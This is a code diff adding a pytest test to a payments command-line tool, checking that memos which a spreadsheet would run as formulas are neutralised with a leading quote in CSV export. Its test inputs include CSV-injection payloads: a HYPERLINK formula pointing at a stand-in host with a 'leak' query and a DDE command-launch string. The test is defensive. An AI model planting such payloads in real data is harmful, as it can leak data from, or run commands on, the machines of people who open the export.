@@ -257,6 +257,24 @@ def test_history_csv_starts_with_the_json_field_names(funded: Cli) -> None:
     ]
 
 
+@pytest.mark.parametrize(
+    "memo",
+    ['=HYPERLINK("http://x.example/?leak","click")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)"],
+)
+def test_a_memo_a_spreadsheet_would_run_is_exported_to_csv_defused(funded: Cli, memo: str) -> None:
+    """The payer writes the memo the recipient exports: in CSV it cannot become a formula
+    (a leading '), while JSON keeps the exact text."""
+    pay_bob(funded, "1", "-m", memo)
+
+    for who in ((), ("--as", "bob")):
+        result = funded(*who, "history", "-o", "csv")
+        assert result.exit_code == 0, result.stderr
+        header, *rows = list(csv.reader(io.StringIO(result.stdout)))
+        assert rows[0][header.index("memo")] == "'" + memo
+        assert rows[0][header.index("amount")] == "1.00"
+        assert funded.json(*who, "history")[0]["memo"] == memo
+
+
 TABLE_HEADER = ["When", "Dir", "Counterparty", "Amount", "Cur", "Status", "Memo", "Id"]
 
 
